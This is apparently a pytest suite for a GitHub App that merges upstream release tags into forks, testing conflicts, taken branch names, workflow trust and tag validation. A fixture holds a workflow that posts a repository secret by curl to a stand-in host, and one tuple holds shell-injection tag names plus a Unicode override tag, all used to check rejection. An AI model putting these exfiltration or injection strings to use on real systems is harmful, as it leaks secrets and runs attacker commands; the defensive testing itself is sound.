"""Forks and upstreams that aren't as one would wish."""

from __future__ import annotations

import pytest

from patch_app.core import names
from patch_app.core.attempt import Stage
from patch_app.core.events import Kind
from patch_app.operator import UsageError, run_release
from patch_app.terminal import Terminal
from tests.stories.world import FORK, UPSTREAM, World, numbered

SECRETIVE = """\
name: publish
on: push
jobs:
  publish:
    runs-on: ubuntu-latest
    permissions: {contents: write}
    steps:
      - run: curl -d "$KEY" https://example.invalid
        env: {KEY: "${{ secrets.PUBLISH_KEY }}"}
"""


@pytest.mark.fork(issues=False)
def test_a_conflict_on_a_fork_that_has_issues_off(world: World) -> None:
    attempt = world.release("v1.1.0", {"pot.txt": numbered(l3="theirs")})
    assert (attempt.stage, attempt.issue) == (Stage.CONFLICT, None)
    checks = [one for one in world.forge.repository(FORK).checks.values() if one.external_id == attempt.id]
    assert [(one.conclusion, one.head_sha) for one in checks] == [("action_required", attempt.candidate)]
    assert "pot.txt" in (checks[0].text or "")
    assert "theirs" in (checks[0].text or "")
    world.ends()


def test_our_branch_name_is_taken_by_a_person(world: World) -> None:
    world.set_ref(world.maintenance(), world.main(), by=world.bob)
    attempt = world.release()
    assert attempt.stage is Stage.BLOCKED
    assert "patch-app/maintenance/main/v1.1.0 exists and isn't ours" in attempt.message
    assert world.ref(world.maintenance()) == world.main()
    world.delete_ref(world.maintenance(), by=world.bob)
    world.settle()
    assert world.attempt().stage is Stage.REVIEWING
    world.approve(world.attempt())
    world.settle()
    assert world.attempt().stage is Stage.PROMOTED
    world.ends()


def test_a_branch_stands_where_our_branches_folder_goes(world: World) -> None:
    world.set_ref("refs/heads/patch-app", world.main(), by=world.bob)
    attempt = world.release()
    assert attempt.stage is Stage.BLOCKED
    assert "the branch patch-app stands where" in attempt.message
    world.delete_ref("refs/heads/patch-app", by=world.bob)
    world.settle()
    assert world.attempt().stage is Stage.REVIEWING
    world.ends()


@pytest.mark.forge(shares_fork_objects=False)
def test_a_fork_that_shares_no_objects_with_its_upstream(world: World) -> None:
    attempt = world.release()
    assert (attempt.stage, attempt.bundle_from) == (Stage.REVIEWING, "base")
    world.approve(attempt)
    world.settle()
    assert world.attempt().stage is Stage.PROMOTED
    world.ends()


def test_upstream_adds_a_workflow_that_uses_a_secret(world: World) -> None:
    attempt = world.release(
        "v1.1.0", {".github/workflows/publish.yml": SECRETIVE, "pot.txt": numbered(l15="v1.1.0")}
    )
    assert attempt.stage is Stage.CARRIED
    assert attempt.issue is not None
    assert "PUBLISH_KEY" in world.issue(attempt.issue.number)["body"]
    assert world.ref(world.maintenance()) == names.ZERO
    trust = f"/patch trust-workflows {attempt.candidate}"
    world.comment(attempt.issue.number, trust, world.bob)
    world.comment(attempt.issue.number, f"/patch trust-workflows {'0' * 40}", world.alice)
    world.settle()
    assert world.attempt().stage is Stage.CARRIED
    assert world.ref(world.maintenance()) == names.ZERO
    world.comment(attempt.issue.number, trust, world.mia)
    world.settle()
    assert world.attempt().stage is Stage.REVIEWING
    world.approve(world.attempt())
    world.settle()
    assert world.attempt().stage is Stage.PROMOTED
    assert world.issue(attempt.issue.number)["state"] == "closed"
    world.ends()


def test_the_workflow_is_missing_on_the_default_branch(world: World) -> None:
    workflow = world.forge.commit(FORK, "main", {names.WORKFLOW_PATH: None}, "Away with it", by="alice")
    attempt = world.release()
    assert (attempt.stage, world.main()) == (Stage.BLOCKED, workflow)
    assert "merge the App's installation pull request" in attempt.message
    world.footprint()
    world.settle()
    assert world.attempt().stage is Stage.REVIEWING
    world.ends()


def test_a_release_that_the_fork_contains_already(world: World) -> None:
    world.publish("v1.1.0", {"pot.txt": numbered(l15="v1.1.0")})
    released = world.ref("refs/tags/v1.1.0", UPSTREAM)
    merged = world.forge.core.git(world.forge.repository(FORK))
    tree = merged.text("merge-tree", "--write-tree", world.main(), released)
    body = {"message": "Merge v1.1.0", "tree": tree, "parents": [world.main(), released]}
    world.set_ref("refs/heads/main", world.alice.api("POST", f"/repos/{FORK}/git/commits", body)["sha"])
    world.poll()
    world.settle()
    attempt = world.attempt()
    assert attempt.stage is Stage.CONTAINED
    assert "already contains v1.1.0" in attempt.message
    assert not world.forge.repository(FORK).runs
    world.ends()


def test_a_failed_run_is_run_again_with_the_button_on_github(world: World) -> None:
    def broken(job: object) -> None:
        job.exit = 1  # type: ignore[attr-defined]

    real, world.robot.carry = world.robot.carry, broken
    attempt = world.release()
    world.later()
    attempt = world.attempt()
    assert attempt.stage is Stage.FAILED
    assert "without a report" in attempt.message
    world.robot.carry = real
    run = attempt.runs[0].id
    world.alice.api("POST", f"/repos/{FORK}/actions/runs/{run}/rerun", {})
    world.settle()
    attempt = world.attempt()
    assert (attempt.number, attempt.stage) == (1, Stage.REVIEWING)
    assert [(one.id, one.attempt) for one in attempt.runs] == [(run, 2)]
    world.approve(attempt)
    world.settle()
    assert world.attempt().stage is Stage.PROMOTED
    world.ends()


# what a shell, a Markdown table or a page might trip over; each is newer than the one before
OBEYED = ("v1.1.0;touch${IFS}pwned", "v1.2.0`touch-pwned`|$(touch${IFS}pwned)", "v1.3.0-tée'\">&&{id}")


@pytest.mark.fork(configuration='[upstream]\ntags = "v*"\n')
def test_tags_that_a_shell_obeys_start_nothing(world: World) -> None:
    for number, tag in enumerate(OBEYED):
        world.publish(tag, {"pot.txt": numbered(l15=str(number))})
        world.poll()
        world.settle()
    assert world.attempts() == []
    reasons = [str(line.get("reason")) for line in world.logs if line["event"] == "release not taken"]
    assert sum("a character that a shell obeys" in reason for reason in reasons) == len(OBEYED)


ODD = ("v1.1.0-tée", "v1.2.0+b@c,d=%20", "v1.3.0_=+")


@pytest.mark.fork(configuration='[upstream]\ntags = "*"\n')
def test_tags_with_odd_names_go_through_the_whole_flow(world: World) -> None:
    for number, tag in enumerate(ODD):
        world.publish(tag, {"pot.txt": numbered(l15=str(number))})
        world.poll()
        world.settle()
    attempts = world.attempts()
    assert [one.tag for one in attempts] == list(ODD)
    assert [one.stage for one in attempts] == [Stage.SUPERSEDED, Stage.SUPERSEDED, Stage.REVIEWING]
    last = attempts[-1]
    world.approve(last)
    world.settle()
    assert world.attempt(last.tag).stage is Stage.PROMOTED
    assert world.main() == last.candidate
    world.ends()


def test_a_tag_that_hides_or_reorders_text_is_refused_with_a_sentence(world: World) -> None:
    world.publish("v1.1.0\u202e", {"pot.txt": numbered(l15="x")})
    world.poll()
    world.settle()
    assert world.attempts() == []
    assert any("invisible" in str(line.get("reason")) for line in world.logs)
    with pytest.raises(UsageError, match="invisible"):
        world.server.call(
            lambda: run_release(
                world.server._settings,
                Terminal(quiet=True),
                upstream=UPSTREAM,
                tag="v1.1.0\u202e",
                dry_run=True,
                record_only=False,
            )
        )
    world.ends()


def test_a_person_asks_for_a_replay(world: World) -> None:
    first = world.release()
    world.wish(Kind.REPLAY, first)
    world.settle()
    first, second = world.attempts()
    assert (first.stage, second.stage) == (Stage.SUPERSEDED, Stage.REVIEWING)
    assert first.pull_request == second.pull_request
    world.approve(second)
    world.settle()
    assert world.attempt().stage is Stage.PROMOTED
    world.ends()
